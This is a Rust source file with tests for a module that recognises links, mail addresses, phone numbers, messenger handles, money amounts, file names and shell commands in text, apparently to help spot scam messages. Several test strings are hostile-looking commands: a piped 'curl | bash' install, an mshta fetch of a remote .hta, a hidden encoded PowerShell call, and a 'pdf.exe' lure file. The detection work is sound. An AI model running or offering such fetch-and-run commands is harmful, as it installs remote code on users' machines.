//! What can be recognised in plain text: links, mail addresses, phones, handles, money, file names, commands.

mod address;
mod command;
mod file;
mod money;
mod phone;

use std::ops::Range;

use super::fold::clean;
use super::letters;
use super::map::Mapped;
use super::sieve::Sieve;

/// Something recognised in a text.
#[derive(Clone, Debug, PartialEq)]
pub struct Found<T> {
    /// Where it stands, in bytes of the text.
    pub range: Range<usize>,
    /// What it is, with disguises such as `[dot]` undone: the value differs from the words when there were any.
    pub value: T,
}

/// What was recognised in a text, each list in the order of the text.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Entities {
    /// Web addresses, with or without a scheme; `git@host:path` as the `https` address of the same repository.
    pub links: Vec<Found<String>>,
    /// Mail addresses.
    pub mails: Vec<Found<String>>,
    /// Phone numbers, as written.
    pub phones: Vec<Found<String>>,
    /// Names on messengers, without the `@`: `@name` beside the name of a messenger, `Telegram: name`, `t.me/name`, `wa.me/number`.
    pub handles: Vec<Found<String>>,
    /// Amounts of money.
    pub money: Vec<Found<Money>>,
    /// File names with a usual extension; not of files inside a link.
    pub files: Vec<Found<String>>,
    /// Shell commands.
    pub commands: Vec<Found<String>>,
}

/// An amount of money.
#[derive(Clone, Copy, Debug, PartialEq)]
pub struct Money {
    /// The amount, or the lower end of a range.
    pub amount: f64,
    /// The upper end of a range.
    pub upto: Option<f64>,
    /// ISO 4217, or the usual ticker of a cryptocurrency.
    pub currency: &'static str,
    /// What the amount is paid for.
    pub per: Option<Per>,
}

/// What an amount is paid for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum Per {
    Hour,
    Day,
    Week,
    Month,
    Year,
}

/// Everything that can be recognised in `text`. Linear time; about 30 µs for 2 kB.
pub fn entities(text: &str) -> Entities {
    of(&clean(text))
}

/// The links and mail addresses in `text`, and nothing else. Linear time; a third of [`entities`].
pub fn addresses(text: &str) -> Entities {
    let clean = clean(text);
    let mut found = address::find(clean.text(), &[]);
    found.handles.clear();
    place(&mut found.links, &clean);
    place(&mut found.mails, &clean);
    found
}

/// Everything in a text that was made clean of disguises.
pub(super) fn of(clean: &Mapped) -> Entities {
    let plain = clean.text();
    let (mut messengers, mut programs, mut at) = (Vec::new(), Vec::new(), 0);
    while let Some(run) = letters::run(plain, at) {
        at = run.end;
        let word = &plain.as_bytes()[run.clone()];
        if MESSENGERS.may_hold(word) {
            messengers.push(run.start);
        }
        if PROGRAMS.may_hold(word) {
            programs.push(run);
        }
    }
    let addresses = address::find(plain, &messengers);
    let mut taken: Vec<Range<usize>> = addresses.links.iter().chain(&addresses.mails).map(|found| found.range.clone()).collect();
    taken.sort_by_key(|range| range.start);
    let is_free = |range: &Range<usize>| {
        let after = taken.partition_point(|taken| taken.end <= range.start);
        taken.get(after).is_none_or(|taken| taken.start >= range.end)
    };
    let mut entities = Entities {
        phones: phone::find(plain).into_iter().filter(|range| is_free(range)).map(|range| cut(plain, range)).collect(),
        money: money::find(plain).into_iter().filter(|found| is_free(&found.range)).collect(),
        files: file::find(plain).into_iter().filter(is_free).map(|range| cut(plain, range)).collect(),
        commands: command::find(plain, &programs).into_iter().map(|range| cut(plain, range)).collect(),
        ..addresses
    };
    place(&mut entities.money, clean);
    for list in
        [&mut entities.links, &mut entities.mails, &mut entities.phones, &mut entities.handles, &mut entities.files, &mut entities.commands]
    {
        place(list, clean);
    }
    entities
}

/// The first words of the names of messengers and of programs.
static MESSENGERS: Sieve = Sieve::new().with_first(&address::MESSENGERS);
static PROGRAMS: Sieve = Sieve::new().with_first(&command::PROGRAMS);

/// The longest stretches of `text` wholly of parts that hold a sign, but for those that only end with one. Every sign must be a part,
/// and blanks must not.
fn around(text: &str, signs: &[bool; 256], is_part: impl Fn(char) -> bool) -> impl Iterator<Item = Range<usize>> {
    let mut done = 0;
    std::iter::from_fn(move || {
        let bytes = text.as_bytes();
        let mut sign = done + bytes[done..].iter().position(|byte| signs[usize::from(*byte)])?;
        while matches!(bytes.get(sign + 1), None | Some(b' ' | b'\n')) {
            done = sign + 1;
            sign = done + bytes[done..].iter().position(|byte| signs[usize::from(*byte)])?;
        }
        let start = text[..sign].trim_end_matches(&is_part).len();
        done = text.len() - text[sign..].trim_start_matches(&is_part).len();
        Some(start..done)
    })
}

fn cut(text: &str, range: Range<usize>) -> Found<String> {
    Found { value: text[range.clone()].to_string(), range }
}

/// Leads the ranges back to the original.
fn place<T>(list: &mut [Found<T>], clean: &Mapped) {
    for found in list {
        found.range = clean.original(found.range.clone());
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn values(list: &[Found<String>]) -> Vec<&str> {
        list.iter().map(|found| found.value.as_str()).collect()
    }

    #[track_caller]
    fn links(text: &str, expected: &[&str]) {
        assert_eq!(values(&entities(text).links), expected, "links of {text:?}");
    }

    #[track_caller]
    fn mails(text: &str, expected: &[&str]) {
        assert_eq!(values(&entities(text).mails), expected, "mails of {text:?}");
    }

    #[track_caller]
    fn phones(text: &str, expected: &[&str]) {
        assert_eq!(values(&entities(text).phones), expected, "phones of {text:?}");
    }

    #[track_caller]
    fn handles(text: &str, expected: &[&str]) {
        assert_eq!(values(&entities(text).handles), expected, "handles of {text:?}");
    }

    #[track_caller]
    fn files(text: &str, expected: &[&str]) {
        assert_eq!(values(&entities(text).files), expected, "files of {text:?}");
    }

    #[track_caller]
    fn commands(text: &str, expected: &[&str]) {
        assert_eq!(values(&entities(text).commands), expected, "commands of {text:?}");
    }

    #[track_caller]
    fn money(text: &str, words: &str, amount: f64, upto: Option<f64>, currency: &str, per: Option<Per>) {
        let found = entities(text).money;
        let [found] = found.as_slice() else { panic!("{} amounts in {text:?}: {found:?}", found.len()) };
        let Money { amount: a, upto: u, currency: c, per: p } = found.value;
        assert_eq!((&text[found.range.clone()], a, u, c, p), (words, amount, upto, currency, per), "in {text:?}");
    }

    #[test]
    fn links_with_and_without_a_scheme() {
        links("See https://example.com/a_(b)?c=d#e, or (http://x.example/).", &["https://example.com/a_(b)?c=d#e", "http://x.example/"]);
        links(
            "www.example.museum and example.com/jobs; careers.example.co.uk!",
            &["www.example.museum", "example.com/jobs", "careers.example.co.uk"],
        );
        links("[apply](https://apply.example/x) <https://b.example>", &["https://apply.example/x", "https://b.example"]);
        links("Website:example.com, EXAMPLE.ORG", &["example.com", "EXAMPLE.ORG"]);
        links("t [dot] me/hr_jane or bit.ly/3xY", &["t.me/hr_jane", "bit.ly/3xY"]);
        links("hxxps[:]//evil[.]example/x", &["hxxps://evil.example/x"]);
        links("clone git@github.com:acme/task.git now", &["https://github.com/acme/task.git"]);
        links("请看https://example.com/a吧，t.me/abc谢谢", &["https://example.com/a", "t.me/abc"]);
        links("http://192.168.0.1:8080/x, 10.0.0.1/a", &["http://192.168.0.1:8080/x", "10.0.0.1/a"]);
        links("https://аpple.com/x and bücher.de", &["https://аpple.com/x", "bücher.de"]);
    }

    #[test]
    fn no_links() {
        for text in [
            "Node.js, ASP.NET, Vue.js, Socket.IO and README.md",
            "e.g.foo, i.e.the, U.S. and a.m.to",
            "for the role.In this job.We and etc.So on",
            "version 1.2.3, 3.14, $1.5k, 10.0.0.1",
            "main.py lib.rs setup.zip run.sh index.html",
            "and/or, w/o, 24/7, src/main.rs",
            "...and then..",
        ] {
            links(text, &[]);
        }
    }

    #[test]
    fn mail_addresses() {
        mails("Write to jane.doe+jobs@example.co.uk.", &["jane.doe+jobs@example.co.uk"]);
        mails("jane (at) gmail (dot) com; bob [at] mail [dot] example dot com", &["jane@gmail.com", "bob@mail.example.com"]);
        mails("<a@b.example>, mailto:c@d.example, 'e@f.example'", &["a@b.example", "c@d.example", "e@f.example"]);
        mails("npm i vite@latest react@18.2.0 @scope/pkg, git@github.com:a/b.git, me@localhost, @jane, a@b", &[]);
        mails("https://user@example.com/x", &[]);
    }

    #[test]
    fn phone_numbers() {
        phones(
            "Call +1 (415) 555-0132 or (212) 555-0199, 415.555.0133 or 1-800-555-0100.",
            &["+1 (415) 555-0132", "(212) 555-0199", "415.555.0133", "1-800-555-0100"],
        );
        phones(
            "+44 20 7946 0958, 0044 20 7946 0959, 06 12 34 56 78, 030 12345678",
            &["+44 20 7946 0958", "0044 20 7946 0959", "06 12 34 56 78", "030 12345678"],
        );
        phones("WhatsApp: 9123456780, text me at 555-0132", &["9123456780", "555-0132"]);
        phones("+1 415 555 0132 (2019)", &["+1 415 555 0132"]);
    }

    #[test]
    fn no_phone_numbers() {
        for text in [
            "2015-2019, 2019-03-01, 01.02.2019, 03/2018 - 11/2020",
            "$1,500,000 and 10.000.000 users, +100 more, +50%",
            "order 4155550132, id 123-456-7890123, #415-555-0132",
            "v10.20.30.40, 192.168.100.100, 94105-1234, 078-05-1120",
            "https://example.com/415-555-0132",
            "4111 1111 1111 1111",
            "number of users: 2019 2020",
        ] {
            phones(text, &[]);
        }
    }

    #[test]
    fn names_on_messengers() {
        handles("Message me on Telegram @hr_jane or @jane_hr on WhatsApp", &["hr_jane", "jane_hr"]);
        handles("https://t.me/hr_jane, wa.me/14155550132, t [dot] me/other", &["hr_jane", "14155550132", "other"]);
        handles(
            "Telegram: hr_jane99\nSkype ID: live:.cid.12\nDiscord - jane#1234\nTG: @janed",
            &["hr_jane99", "live:.cid.12", "jane#1234", "janed"],
        );
        handles("telegram: johndoe", &["johndoe"]);
        for text in [
            "Thanks @jane for the Telegram bot work",
            "Telegram: please add me",
            "on the line: manager",
            "hi @jane, see you",
            "signal: strong9",
            "Telegram: t.me",
        ] {
            let expected: &[&str] = if text.starts_with("Thanks") { &["jane"] } else { &[] };
            handles(text, expected);
        }
    }

    #[test]
    fn amounts_of_money() {
        money("up to $500/day.", "$500/day", 500.0, None, "USD", Some(Per::Day));
        money("USD 1500-3000 weekly", "USD 1500-3000 weekly", 1500.0, Some(3000.0), "USD", Some(Per::Week));
        money("£85 per hour", "£85 per hour", 85.0, None, "GBP", Some(Per::Hour));
        money("pay 2000 USD per month", "2000 USD per month", 2000.0, None, "USD", Some(Per::Month));
        money("$10k to $15k a month", "$10k to $15k a month", 10_000.0, Some(15_000.0), "USD", Some(Per::Month));
        money("is 10~20K USD.", "10~20K USD", 10_000.0, Some(20_000.0), "USD", None);
        money("$120,000 – $150,000 / year", "$120,000 – $150,000 / year", 120_000.0, Some(150_000.0), "USD", Some(Per::Year));
        money("1.500,50 € im Monat", "1.500,50 € im Monat", 1500.5, None, "EUR", Some(Per::Month));
        money("1 500 € par mois", "1 500 € par mois", 1500.0, None, "EUR", Some(Per::Month));
        money("500 USDT daily", "500 USDT daily", 500.0, None, "USDT", Some(Per::Day));
        money("0.05 BTC", "0.05 BTC", 0.05, None, "BTC", None);
        money("raised $1.5 million", "$1.5 million", 1_500_000.0, None, "USD", None);
        money("R$ 5.000 por mês", "R$ 5.000 por mês", 5000.0, None, "BRL", Some(Per::Month));
        money("earn 200 dollars an hour", "200 dollars an hour", 200.0, None, "USD", Some(Per::Hour));
        money("$35–45/hr", "$35–45/hr", 35.0, Some(45.0), "USD", Some(Per::Hour));
        money("$100 USD/h", "$100 USD/h", 100.0, None, "USD", Some(Per::Hour));
        money("CA$ or C$90 an hour", "C$90 an hour", 90.0, None, "CAD", Some(Per::Hour));
    }

    #[test]
    fn no_money() {
        for text in [
            "an 80/20 split, 30 %, 5 years, 10 SOLID rules",
            "2019-2021",
            "ISO27001, B2B 2 EURO-zones",
            "10 try, 3 sol",
            "call 415 555 0132",
        ] {
            assert_eq!(entities(text).money, [], "{text:?}");
        }
    }

    #[test]
    fn file_names() {
        files(
            "Open Job_Offer.pdf.exe, brief-v2.docx or src/index.js and .env",
            &["Job_Offer.pdf.exe", "brief-v2.docx", "index.js", ".env"],
        );
        files("unzip task.zip and read README.md (setup.sh)", &["task.zip", "README.md", "setup.sh"]);
        files("Node.js, Vue.js, ASP.NET, e.g. the U.S., 1.5, v2.0, https://example.com/a.pdf, jane@example.sh", &[]);
    }

    #[test]
    fn shell_commands() {
        commands("please run npm install && npm start before our call", &["npm install && npm start"]);
        commands(
            "1. git clone https://github.com/acme/task.git\n2. cd task\n3. `npm i`",
            &["git clone https://github.com/acme/task.git", "npm i"],
        );
        commands("curl -fsSL https://x.example/i.sh | bash", &["curl -fsSL https://x.example/i.sh | bash"]);
        commands("$ pip install -r requirements.txt, then python main.py.", &["pip install -r requirements.txt", "python main.py"]);
        commands("Press Win+R and paste: mshta https://x.example/a.hta", &["mshta https://x.example/a.hta"]);
        commands("powershell -w hidden -enc SQBFAFgA", &["powershell -w hidden -enc SQBFAFgA"]);
        commands("docker compose up -d and yarn dev", &["docker compose up -d", "yarn dev"]);
        commands("Just npm install and start it", &["npm install"]);
        commands("sudo bash setup.sh", &["sudo bash setup.sh"]);
        for text in [
            "We use npm packages, Docker Compose, Git and Bash scripting.",
            "good git pull requests, git history and node clusters",
            "Go services, Python or Java; yarn from wool; curl it",
            "make it run, go run the tests, start with sh",
            "docker compose experience is a plus",
            "Docker build pipelines and npm test suites",
        ] {
            commands(text, &[]);
        }
    }

    #[test]
    fn tables_are_sorted() {
        assert!(address::ENDINGS.is_sorted() && file::EXTENSIONS.is_sorted());
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 1_000, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn any_text_is_harmless(parts in prop::collection::vec(prop_oneof![
            any::<char>().prop_map(String::from),
            "[a-z0-9@.:/$ +()-]{1,8}",
            prop::sample::select(vec!["telegram: ", "git clone ", "https://", "USD ", "@", " to ", "$", "é", "\n", "+1 ", ".com", "(dot)", "npm install", "|"]).prop_map(String::from),
        ], 0..30)) {
            let text = parts.concat();
            let found = entities(&text);
            let ranges = [&found.links, &found.mails, &found.phones, &found.handles, &found.files, &found.commands]
                .into_iter().flatten().map(|found| found.range.clone()).chain(found.money.iter().map(|found| found.range.clone()));
            for range in ranges {
                prop_assert!(text.get(range).is_some_and(|words| !words.is_empty()));
            }
        }
    }
}
